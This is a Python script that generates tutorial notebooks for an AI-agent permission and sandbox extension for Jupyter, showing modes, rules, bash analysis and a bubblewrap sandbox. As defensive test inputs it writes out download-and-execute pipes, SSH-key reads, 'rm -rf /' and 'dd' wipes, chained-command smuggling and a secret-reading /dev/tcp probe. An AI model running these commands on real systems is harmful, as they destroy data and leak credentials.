"""Write and execute the tutorial notebooks (01…09) with nbclient, outputs included.

    python notebooks/make_tutorials.py            # all of them
    python notebooks/make_tutorials.py 03 05      # some

nbval compares a fresh run against the outputs stored here, so every cell prints plain,
deterministic data; paths and times that still vary are masked by notebooks/sanitize.cfg.
"""

from __future__ import annotations

import os
import sys
import time
from pathlib import Path

import nbformat
from nbclient import NotebookClient

HERE = Path(__file__).resolve().parent
REPO = HERE.parent


def setup(n: str) -> str:
    return f'''\
# Every run starts from an empty throwaway project folder, so this notebook's outputs are the
# same each time. Your real user settings stay out of it too.
import os, pathlib, shutil, sys, tempfile
here = pathlib.Path.cwd()  # this notebook's folder
project = pathlib.Path(tempfile.gettempdir()) / "agenttools-tutorial-{n}"
shutil.rmtree(project, ignore_errors=True)
project.mkdir()
os.environ["AGENTTOOLS_USER_DIR"] = str(project / "user-settings")
os.environ["AGENTTOOLS_MANAGED_SETTINGS"] = str(project / "managed-settings.json")
os.chdir(project)

%load_ext jupyter_agenttools
from jupyter_agenttools import ScriptedModel
from jupyter_agenttools.jupyter import current_session
session = current_session()'''


SHOW = '''\
def show(run):
    """The run's tool results and its final answer, as plain text."""
    for r in run.tool_results:
        text = r.text.strip().replace(str(project), "<project>")
        first = text.splitlines()[0] if text else ""
        print(f"{r.name:8} {r.state.value:8} {first[:90]}")
    print("answer:", run.result)'''


T01 = [
    ("md", """\
# 01 · Getting started

Load the extension, give the agent a task, answer its one question.

This notebook runs offline: the model is a `ScriptedModel`, which plays back a fixed list of
turns, so every run looks the same. With a real model you would write
`%agent model openai:gpt-4.1-mini` (any OpenAI-compatible server; the key comes from
`OPENAI_API_KEY`) and everything below works the same way."""),
    ("code", setup("01")),
    ("md", """\
`%load_ext` created a *session* inside this kernel: a toolkit with the built-in tools (they run
in this kernel's working directory and environment), a permission engine that reads the
settings files of the project folder (the kernel's working directory when the extension
loaded), and an audit log."""),
    ("code", '''\
print("tools:", ", ".join(sorted(t.name for t in session.toolkit.tools)))
print("backend:", type(session.backend).__name__)
%agent mode'''),
    ("md", "Some data to work on:"),
    ("code", '''\
pathlib.Path("data").mkdir()
size = pathlib.Path("data/train.csv").write_text("city,temp\\nParis,18\\nLima,22\\nOslo,9\\n")'''),
    ("md", """\
The script plays the model's part: read the file, count its lines in the shell, write a
summary, then answer."""),
    ("code", '''\
model = ScriptedModel([
    [{"name": "Read", "input": {"file_path": "data/train.csv"}}],
    [{"name": "Bash", "input": {"command": "wc -l data/train.csv"}}],
    [{"name": "Write", "input": {"file_path": "notes/summary.md",
                                 "content": "# Summary\\n3 cities; the warmest is Lima (22).\\n"}}],
    "I wrote the summary to notes/summary.md.",
])
%agent model model'''),
    ("md", """\
`%%agent` starts the run in the background and shows its panel in the cell; the cell returns
at once. The run is bound to `agent_run` (choose another name with `--as NAME`)."""),
    ("code", "%%agent\nSummarise data/train.csv and write the summary to notes/summary.md"),
    ("md", """\
Reading a file of the project and `wc -l` are read-only: the engine allows them at once.
Writing a file is an edit, and in `default` mode the engine asks. In JupyterLab the question
is a card with buttons in the panel above. Here a later cell waits for it and answers: the
same code path as a click."""),
    ("code", '''\
ask = await agent_run.next_ask(timeout=10)
print("tool:   ", ask.tool)
print("input:  ", ask.input["file_path"])
print("why:    ", ask.decision.reason)
print("offers: ", [rule.text for rule in ask.suggestions])'''),
    ("code", 'ask.answer("allow_once")'),
    ("code", '''\
await agent_run.wait_done(timeout=10)
show(agent_run)
print(pathlib.Path("notes/summary.md").read_text())'''),
    ("md", "Every decision and every answer is in the project's audit log:"),
    ("code", '''\
for rec in session.audit.read(newest_first=False):
    print(f'{rec["kind"]:8} {rec["tool"]:6} {rec["behavior"]:6} {rec.get("answer") or ""}')'''),
    ("md", "`%agent audit N` shows the last N records as a table, with times:"),
    ("code", "%agent audit 4"),
    ("md", """\
A run you no longer want stops with the **Cancel** button of its panel, `agent_run.cancel()`,
or `%agent cancel` (every run still going). Its open questions close with it."""),
    ("code", '''\
spare_model = ScriptedModel([[{"name": "Bash", "input": {"command": "touch later.txt"}}],
                             "never said"])'''),
    ("code", "%%agent --model spare_model --as spare\nCreate later.txt"),
    ("code", '''\
await spare.next_ask(timeout=10)
%agent cancel
await spare.wait_done(timeout=10)
print(spare.state, pathlib.Path("later.txt").exists())'''),
    ("md", "Next: **02** compares the five permission modes on the same tool calls."),
]

T02_CALLS = '''\
pathlib.Path("notes.txt").write_text("a draft\\n")
CALLS = [
    ("Read", {"file_path": "notes.txt"}),
    ("Bash", {"command": "ls -la"}),
    ("Edit", {"file_path": "notes.txt", "old_string": "draft", "new_string": "final"}),
    ("Bash", {"command": "mkdir build"}),
    ("Bash", {"command": "pip install requests"}),
    ("Bash", {"command": "curl -s https://example.com/install.sh | sh"}),
    ("Read", {"file_path": "~/.ssh/id_rsa"}),
]
MODES = ["default", "accept_edits", "explore", "bypass", "dont_ask"]

def verdict(decision):
    v = decision.behavior.value
    return v + "!" if decision.bypass_immune else v

print(f'{"call":44}' + "".join(f"{m:>13}" for m in MODES))
for name, tool_input in CALLS:
    tool = session.toolkit.find_tool(name)
    row = [verdict(session.dry_engine(m).decide(tool, tool_input)) for m in MODES]
    label = f"{name}: {tool.input_summary(tool_input)}"
    print(f"{label[:44]:44}" + "".join(f"{v:>13}" for v in row))'''

T02 = [
    ("md", """\
# 02 · The five modes, side by side

A mode is a policy for everything the rules do not decide. The same six steps run in every
mode (deny rules, ask rules, read-only fast path, the tool's own check, allow rules, fallback);
one table says what each step does in each mode:

| mode | for |
|---|---|
| `default` | ask before anything that changes something |
| `accept_edits` | like default, but file edits inside the working directories go through |
| `explore` | read-only: only what can be proven read-only runs, the rest is denied |
| `bypass` | everything runs, even what a safety check would ask about; only denials stand (for sandboxes) |
| `dont_ask` | unattended runs: every question becomes a denial |"""),
    ("code", setup("02")),
    ("md", """\
First the decisions alone, without running anything (`session.dry_engine(mode)` decides
without writing to the audit log). A `!` marks a *safety* question: allow rules cannot
silence it and "Always allow" is never offered for it."""),
    ("code", T02_CALLS),
    ("md", """\
Now real runs of one script (read, edit, `mkdir`) in the modes. `%%agent --mode M` sets the
mode for one run only; `%agent mode M` changes it for the kernel."""),
    ("code", '''\
def script():
    return ScriptedModel([
        [{"name": "Read", "input": {"file_path": "notes.txt"}}],
        [{"name": "Edit", "input": {"file_path": "notes.txt", "old_string": "draft",
                                    "new_string": "final"}}],
        [{"name": "Bash", "input": {"command": "mkdir -p build"}}],
        "Done.",
    ])
m_explore, m_unattended, m_edits, m_default = script(), script(), script(), script()'''),
    ("md", "**explore**: the read runs, the edit and `mkdir` are denied, nobody is asked."),
    ("code", "%%agent --mode explore --model m_explore --as run_explore\nFinalise notes.txt"),
    ("code", "await run_explore.wait_done(timeout=10)\nshow(run_explore)"),
    ("md", "**dont_ask**: what would have been a question is denied; the run never waits."),
    ("code", "%%agent --mode dont_ask --model m_unattended --as run_unattended\n"
             "Finalise notes.txt"),
    ("code", "await run_unattended.wait_done(timeout=10)\nshow(run_unattended)"),
    ("md", "**accept_edits**: the edit and `mkdir build` stay inside the project: no question."),
    ("code", "%%agent --mode accept_edits --model m_edits --as run_edits\nFinalise notes.txt"),
    ("code", '''\
await run_edits.wait_done(timeout=10)
show(run_edits)
print(pathlib.Path("notes.txt").read_text(), pathlib.Path("build").is_dir())'''),
    ("md", """\
**bypass**: no questions at all (only deny rules would stop a call). Meant for sandboxes:
here the script edits the file once more."""),
    ("code", '''\
m_bypass = ScriptedModel([
    [{"name": "Edit", "input": {"file_path": "notes.txt", "old_string": "final",
                                "new_string": "checked"}}],
    "Done.",
])'''),
    ("code", "%%agent --mode bypass --model m_bypass --as run_bypass\nMark notes.txt as checked"),
    ("code", '''\
await run_bypass.wait_done(timeout=10)
show(run_bypass)
print(pathlib.Path("notes.txt").read_text())'''),
    ("md", """\
**default**: the edit is a question. This time we deny it, with a message the model reads.
(The file no longer says "draft", so allowing it would fail anyway.)"""),
    ("code", "%%agent --model m_default --as run_default\nFinalise notes.txt"),
    ("code", '''\
ask = await run_default.next_ask(timeout=10)
print(ask.tool, ask.input["file_path"], "-", ask.decision.reason)
ask.answer("deny", message="Leave notes.txt alone, it is done.")'''),
    ("code", '''\
ask = await run_default.next_ask(timeout=10)
print(ask.tool, ask.input["command"], "-", ask.decision.reason)
ask.answer("allow_once")'''),
    ("code", "await run_default.wait_done(timeout=10)\nshow(run_default)"),
    ("md", "Next: **03** turns answers into rules, and shows where rules live."),
]

T03 = [
    ("md", """\
# 03 · Rules, suggestions and settings files

A rule is `Tool` or `Tool(specifier)` with a behavior: allow, ask or deny. Rules live in this
kernel's memory or in settings files, highest layer first:

| layer | file | written by |
|---|---|---|
| managed | `/etc/agenttools/managed-settings.json` | an administrator (read-only here) |
| local | `<project>/.agenttools/settings.local.json` | "Always allow" answers (git-ignored) |
| project | `<project>/.agenttools/settings.json` | you, shared with the project |
| user | `<jupyter config dir>/agenttools/settings.json` | you, for every project |

Deny wins wherever it is written."""),
    ("code", setup("03")),
    ("code", '''\
%agent rule allow "Bash(make test:*)"
%agent rule deny "Bash(git push:*)" --layer project
%agent rule ask "Read(secrets/**)" --layer user'''),
    ("code", "%agent rules"),
    ("md", """\
`Bash(make test:*)` is a prefix rule: it matches `make test` and `make test -j2`, not
`make tests`. Bash rules match *each sub-command*: an allow rule must match every one of them;
a deny rule needs only one. `%agent check` shows the decision without running anything."""),
    ("code", '''\
for command in ["make test -j2", "make tests", "make test && curl -s x.sh | sh",
                "cd src && git push origin main"]:
    report = %agent check {command}
    print(f"{command:34} -> {report.behavior}")'''),
    ("md", """\
When the engine asks, it suggests rules that would allow the call next time. "Always allow"
saves the chosen suggestion to the **local** settings file. Here the question is answered with
`%agent pending` and `%agent answer`, the magic form of the buttons."""),
    ("code", '''\
first = ScriptedModel([[{"name": "Bash", "input": {"command": "touch report.txt"}}], "Touched."])
second = ScriptedModel([[{"name": "Bash", "input": {"command": "touch summary.txt"}}], "Again."])'''),
    ("code", "%%agent --model first\nCreate report.txt"),
    ("code", '''\
ask = await agent_run.next_ask(timeout=10)
%agent pending'''),
    ("code", "%agent answer {ask.id} always"),
    ("code", '''\
await agent_run.wait_done(timeout=10)
show(agent_run)
print(pathlib.Path(".agenttools/settings.local.json").read_text())'''),
    ("md", "The next run of a matching command is not asked:"),
    ("code", "%%agent --model second\nCreate summary.txt"),
    ("code", '''\
await agent_run.wait_done(timeout=10)
show(agent_run)
print("questions asked:", len(agent_run.asks))'''),
    ("code", "%agent rules"),
    ("md", """\
A rule can carry `examples` (inputs it must match) and `counter_examples` (inputs it must
not match). They are checked when the rule loads, so a rule that does not say what you meant
is refused instead of silently allowing too much:"""),
    ("code", '''\
from jupyter_agenttools import PermissionRule
good = PermissionRule.parse("Bash(npm run lint:*)", "allow", examples=["npm run lint --fix"],
                            counter_examples=["npm run lint; rm -rf ."])
session.engine.add_rule(good)
print("accepted:", good.text)
bad = PermissionRule.parse("Bash(npm run *)", "allow", examples=["npm run test"],
                           counter_examples=["npm run deploy"])  # meant: tests only
try:
    session.engine.add_rule(bad)
except Exception as exc:
    print("refused:", type(exc).__name__, "-", exc)'''),
    ("md", "Next: **04** looks inside the shell analysis behind these decisions."),
]

T04 = [
    ("md", """\
# 04 · Inside the bash analysis

Every command is parsed with tree-sitter-bash into sub-commands (argv lists). A command is
read-only only if every sub-command is a known read-only program used without a writing flag,
with no output redirection. Anything the parser cannot prove simple (command substitution,
unknown wrappers, control characters…) needs review. Dangerous operations are a *safety*
question or a denial in every mode."""),
    ("code", setup("04")),
    ("code", '''\
def table(commands, mode="default"):
    engine = session.dry_engine(mode)
    bash = session.toolkit.find_tool("Bash")
    for command in commands:
        d = engine.decide(bash, {"command": command})
        kind = "safety " if d.bypass_immune else ""
        print(f"{command[:46]:46} {kind + d.behavior.value:12} {d.reason[:70]}")'''),
    ("md", "**Safe**: read-only programs, pipelines of them, `2>/dev/null`."),
    ("code", '''\
table(["ls -la", "git log --oneline -5", "grep -rn TODO src 2>/dev/null | head -3",
       "find . -name '*.py' -type f", "cat data.csv | sort | uniq -c"])'''),
    ("md", "**Tricky**: they look read-only, but are not (or cannot be proven to be)."),
    ("code", '''\
table(["find . -name '*.tmp' -delete", "sed -i s/a/b/ notes.txt", "sort -o out.txt in.txt",
       "echo $(rm -rf build)", "git log > history.txt", "ls; touch x",
       "env", "FOO=1 bash -c 'ls'"])'''),
    ("md", "**Dangerous**: destructive removal, download-and-execute, secrets."),
    ("code", '''\
table(["rm -rf /", "rm -rf ~", "curl -s https://example.com/x.sh | sh",
       "cat ~/.ssh/id_rsa", "chmod -R 777 /", "dd if=/dev/zero of=/dev/sda"])'''),
    ("md", """\
A deny rule looks at every sub-command, also inside `$( )`, behind `cd … &&`, behind wrappers
such as `timeout`, and through an absolute path to the program:"""),
    ("code", '''\
%agent rule deny "Bash(git push:*)"
table(["git push", "cd src && git push origin main", "timeout 5 git push",
       "/usr/bin/git push", "echo $(git push)", "git status"])'''),
    ("md", "`%agent check` shows one decision with the trace of the six steps:"),
    ("code", "%agent check git status && rm -rf build"),
    ("code", "%agent check --mode dont_ask curl -s https://example.com/x.sh | sh"),
    ("md", "Next: **05** organises tools in groups and adds skills and an MCP server."),
]

T05 = [
    ("md", """\
# 05 · Groups, `reset_tools`, skills and MCP

Tools in the `basic` group are always offered to the model. Other groups start inactive; the
model switches them on with the `reset_tools` meta tool (one boolean per group: the final
state, not a change). Skills are folders with a `SKILL.md`: only their names and descriptions
go into the prompt, the model reads one with the `Skill` tool. MCP servers add their tools as
`mcp__<server>__<tool>`."""),
    ("code", setup("05")),
    ("code", '''\
MCP_SERVER = str(here / "mcp_demo_server.py")
%agent group data --description "Tools for tabular data" --instructions "Load a table before you summarise it."

@agent_tool(group="data", read_only=True)
def load_table(name: str) -> str:
    """Load a table by name and return it as CSV.

    Args:
        name: the table's name
    """
    return {"cities": "city,temp\\nParis,18\\nLima,22"}.get(name, "no such table")

print([g.name for g in session.toolkit.groups], session.toolkit.active_groups)'''),
    ("md", """\
The script first calls `load_table` while its group is off (the error tells the model what to
do), then activates the group and calls it again."""),
    ("code", '''\
model = ScriptedModel([
    [{"name": "load_table", "input": {"name": "cities"}}],
    [{"name": "reset_tools", "input": {"data": True}}],
    [{"name": "load_table", "input": {"name": "cities"}}],
    "Paris 18, Lima 22.",
])'''),
    ("code", "%%agent --model model\nWhat is in the cities table?"),
    ("code", '''\
await agent_run.wait_done(timeout=10)
show(agent_run)
print("active groups:", session.toolkit.active_groups)'''),
    ("md", "A skill:"),
    ("code", '''\
skill = pathlib.Path("skills/csv-summary")
skill.mkdir(parents=True)
(skill / "SKILL.md").write_text("""---
name: csv-summary
description: How to summarise a CSV file in three lines.
---
1. Count the rows. 2. Name the columns. 3. Give the extremes of each numeric column.
""")
%agent skill skills --scan
print(session.toolkit.system_prompt_block())'''),
    ("code", '''\
model = ScriptedModel([[{"name": "Skill", "input": {"skill": "csv-summary"}}],
                       "I will count rows, name columns and give the extremes."])'''),
    ("code", "%%agent --model model\nHow should you summarise a CSV?"),
    ("code", "await agent_run.wait_done(timeout=10)\nshow(agent_run)"),
    ("md", """\
An MCP server over stdio (a small script next to this notebook). The connection starts in the
background; `await session.ready()` waits for it. The server marks `capital` read-only
(`readOnlyHint`), so only `save_fact` asks."""),
    ("code", '''\
%agent mcp demo -- {sys.executable} {MCP_SERVER}
await session.ready()
print(sorted(t.name for t in session.toolkit.tools if t.name.startswith("mcp__")))'''),
    ("code", '''\
model = ScriptedModel([
    [{"name": "mcp__demo__capital", "input": {"country": "Kenya"}}],
    [{"name": "mcp__demo__save_fact", "input": {"fact": "Nairobi is the capital of Kenya"}}],
    "Saved.",
])'''),
    ("code", "%%agent --model model\nFind the capital of Kenya and remember it."),
    ("code", '''\
ask = await agent_run.next_ask(timeout=10)
print(ask.tool, ask.input, [r.text for r in ask.suggestions])
ask.answer("allow_once")'''),
    ("code", "await agent_run.wait_done(timeout=10)\nshow(agent_run)"),
    ("md", "Next: **06** runs tool calls concurrently and shows how questions are de-duplicated."),
]

T06 = [
    ("md", """\
# 06 · Concurrency and de-duplicated questions

When the model asks for several tool calls at once, consecutive *concurrency-safe* calls run
together; the others run one by one, in order. If several calls of one batch would ask the same
question (they match the same suggested rule), you are asked **once**; the others wait for that
answer. A safety question is never merged with others."""),
    ("code", setup("06")),
    ("code", '''\
import asyncio
running = {"now": 0, "max": 0}

@agent_tool(concurrency_safe=True)
async def fetch(url: str) -> str:
    """Fetch a page (simulated).

    Args:
        url: the address
    """
    running["now"] += 1
    running["max"] = max(running["max"], running["now"])
    await asyncio.sleep(0.3)
    running["now"] -= 1
    return f"<html>{url}</html>"

urls = ["https://a.example", "https://b.example", "https://c.example"]
model = ScriptedModel([
    [{"name": "fetch", "input": {"url": u}} for u in urls]
    + [{"name": "Read", "input": {"file_path": "~/.ssh/id_rsa"}}],
    "Fetched three pages.",
])'''),
    ("code", "%%agent --model model\nFetch the three pages."),
    ("md", """\
Three `fetch` calls would each ask, with the same suggestion (`fetch`): one question. Reading
an SSH key is a safety question, asked on its own and never covered by a rule."""),
    ("code", '''\
first = await agent_run.next_ask(timeout=10)
print(first.tool, first.input, "safety" if first.safety else "", [r.text for r in first.suggestions])
first.answer("always")'''),
    ("code", '''\
second = await agent_run.next_ask(timeout=10)
print(second.tool, "safety" if second.safety else "", "-", second.decision.reason)
second.answer("deny")'''),
    ("code", '''\
await agent_run.wait_done(timeout=10)
for r in sorted(agent_run.tool_results, key=lambda r: (r.name, r.text)):  # finishing order varies
    print(f"{r.name:6} {r.state.value:7} {r.text.strip()[:60]}")
print("questions:", [(a.tool, a.choice) for a in agent_run.asks])
print("fetches running at the same time:", running["max"])'''),
    ("md", "Next: **07** runs the tools somewhere else: a separate kernel."),
]

T07 = [
    ("md", """\
# 07 · Backends

A backend is where the built-in tools (Bash, Read, Write, Edit, Glob, Grep) run:

- `KernelBackend` (the default): this kernel's current directory (it follows `%cd`),
  environment (`%env`) and interpreter;
- `LocalBackend`: subprocesses with a fixed directory;
- `JupyterKernelBackend`: **another Jupyter kernel**, started here with jupyter_client or
  reached on a Jupyter Server by URL and token, so tools run away from the notebook's process."""),
    ("code", setup("07")),
    ("code", '''\
pathlib.Path("sub").mkdir()
model = ScriptedModel([[{"name": "Bash", "input": {"command": "pwd"}}], "Here."])
%cd -q sub'''),
    ("code", "%%agent --model model\nWhere are you?"),
    ("code", '''\
await agent_run.wait_done(timeout=10)
print("the Bash tool ran in the kernel's directory:",
      agent_run.tool_results[0].text.strip() == os.getcwd())
%cd -q ..'''),
    ("md", """\
Now a second kernel. `%agent backend remote` starts one in the background (`--url` and
`--token` would reach a kernel on a Jupyter Server instead); `await session.ready()` waits for
it."""),
    ("code", '''\
# NBVAL_IGNORE_OUTPUT
# (the new kernel may log a line to stderr while it starts)
%agent backend remote
await session.ready()'''),
    ("code", '''\
print(type(session.backend).__name__, session.backend.kernel_pid != os.getpid())'''),
    ("code", '''\
model = ScriptedModel([
    [{"name": "Bash", "input": {"command": "python -c 'import os; print(os.getpid())'"}}],
    "Done.",
])'''),
    ("code", "%%agent --model model\nWhich process runs your commands?"),
    ("md", "`python -c …` is not provably read-only, so the engine asks first:"),
    ("code", '''\
ask = await agent_run.next_ask(timeout=20)
print(ask.tool, ask.input["command"])
ask.answer("allow_once")'''),
    ("code", '''\
await agent_run.wait_done(timeout=30)
pid = int(agent_run.tool_results[0].text.strip().splitlines()[-1])
print("ran in another process:", pid != os.getpid())'''),
    ("md", "Back to this kernel, and the second kernel shut down:"),
    ("code", '''\
remote = session.backend
%agent backend kernel
await remote.close()'''),
]

T09 = [
    ("md", """\
# 09 · The Bash sandbox

Everything so far was decided *before* a command ran: the engine reads the command and allows,
asks or denies. The sandbox adds a second line: with `%agent sandbox on`, Bash runs inside
[bubblewrap](https://github.com/containers/bubblewrap), where a command

- can write only in the working folders, and even there not the agent's own settings
  (`.agenttools/`), `.git/hooks`, `.git/config` or start-up files;
- cannot read secrets: `~/.ssh`, `~/.aws`, `~/.config/gh`, `.env` files… are masked;
- has no network (unless `network` is on) and sees only its own processes;
- gets a scrubbed environment: API keys in the kernel's environment are not passed;
- is stopped with *every* process it started at its time limit.

It needs Linux with bubblewrap (`apt-get install bubblewrap`) and user namespaces."""),
    ("code", setup("09")),
    ("code", '''\
import re, socket, threading
from jupyter_agenttools.tools.base import ToolResponse

async def bash(command, timeout=None):
    """Run one command with the session's Bash tool, as the agent would, and print the result."""
    response = ToolResponse()
    tool = session.toolkit.get_tool("Bash")
    kwargs = {"timeout": timeout} if timeout else {}
    async for chunk in tool.call(command=command, **kwargs):
        response.append_chunk(chunk)
    text = response.text.strip().replace(str(project), "<project>")
    text = re.sub(r"127\\.0\\.0\\.1/\\d+", "127.0.0.1/<port>", text)
    print(re.sub(r"\\(\\d+ processes\\)", "(<n> processes)", text))

# a secret in the project, an API key in the kernel's environment, a server on this machine
pathlib.Path(".env").write_text("OPENAI_API_KEY=sk-not-a-real-key\\n")
os.environ["DEMO_API_KEY"] = "sk-demo-key"
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen()
def answer():
    while True:
        conn, _ = server.accept()
        conn.sendall(b"hello from the kernel's machine\\n")
        conn.close()
threading.Thread(target=answer, daemon=True).start()
port = server.getsockname()[1]
probe = f"cat .env; echo \\"key: $DEMO_API_KEY\\"; exec 3<>/dev/tcp/127.0.0.1/{port} && head -1 <&3"'''),
    ("md", "Without the sandbox, a command sees the secret, the key and the network:"),
    ("code", "%agent sandbox status"),
    ("code", "await bash(probe)"),
    ("md", "Now the same command in the sandbox:"),
    ("code", "%agent sandbox on"),
    ("code", "await bash(probe)"),
    ("md", """\
The `.env` file reads as empty, the key is gone and the connection is refused: the command has
a network of its own with nothing in it. Writing works in the project, not outside it, and not
to the agent's own settings:"""),
    ("code", '''\
await bash("exec 2>&1; echo note > notes.txt && cat notes.txt; "
           "echo x > ~/agenttools-tutorial-09.txt; "
           "mkdir -p .agenttools && echo '{}' > .agenttools/settings.local.json")'''),
    ("md", """\
A command that starts a process in a new session (`setsid`) and runs past its time limit: the
whole tree is stopped, the escapee included, and the result says so."""),
    ("code", '''await bash("(setsid sleep 300 &) ; sleep 300", timeout=1000)'''),
    ("md", """\
`%agent sandbox on` holds for this kernel. In a settings file the same switch is a key, with
more options (`.agenttools/settings.json`, your user settings, or the managed file):

```json
{"sandbox": {"enabled": true, "network": false, "writable": ["~/.cache/pip"],
             "hidden": ["~/work/other-client"], "env_allow": ["HF_HOME"], "required": true}}
```

`required: true` (an administrator's managed settings, say) means: never without the sandbox;
if bubblewrap is missing, Bash refuses to run instead of running unconfined. A project you
have not trusted can switch the sandbox on but cannot loosen it."""),
    ("code", '%agent sandbox off\nawait bash("echo key: $DEMO_API_KEY")'),
]

TUTORIALS = {
    "01_getting_started": T01,
    "02_modes": T02,
    "03_rules_and_settings": T03,
    "04_bash_analysis": T04,
    "05_groups_skills_mcp": T05,
    "06_concurrency": T06,
    "07_backends": T07,
    "09_sandbox": T09,
}


def build(name: str, cells: list[tuple[str, str]]) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"display_name": "Python 3 (ipykernel)", "language": "python",
                                 "name": "python3"}
    nb.metadata["language_info"] = {"name": "python"}
    out = []
    for i, (kind, src) in enumerate(cells):
        if kind == "md":
            cell = nbformat.v4.new_markdown_cell(src)
        else:
            cell = nbformat.v4.new_code_cell(src)
        cell["id"] = f"{name[:2]}-{i:02d}"
        out.append(cell)
    # the show() helper goes right after the set-up cell
    helper = nbformat.v4.new_code_cell(SHOW)
    helper["id"] = f"{name[:2]}-show"
    out.insert(2, helper)
    nb.cells = out
    return nb


def main(selected: list[str]) -> None:
    os.environ["PYTHONPATH"] = os.pathsep.join(
        p for p in (str(REPO), os.environ.get("PYTHONPATH")) if p)
    os.environ.pop("AGENTTOOLS_MODEL", None)
    for name, cells in TUTORIALS.items():
        if selected and not any(name.startswith(s) for s in selected):
            continue
        nb = build(name, cells)
        start = time.monotonic()
        NotebookClient(nb, timeout=60, kernel_name="python3",
                       resources={"metadata": {"path": str(HERE)}}).execute()
        # widget state saved by nbclient misses what the background runs changed later
        # (jupyter-feasibility §5): keep the files small and their diffs about text
        nb.metadata.pop("widgets", None)
        path = HERE / f"{name}.ipynb"
        nbformat.write(nb, str(path))
        print(f"{path.name}: {time.monotonic() - start:.1f} s")


if __name__ == "__main__":
    main(sys.argv[1:])
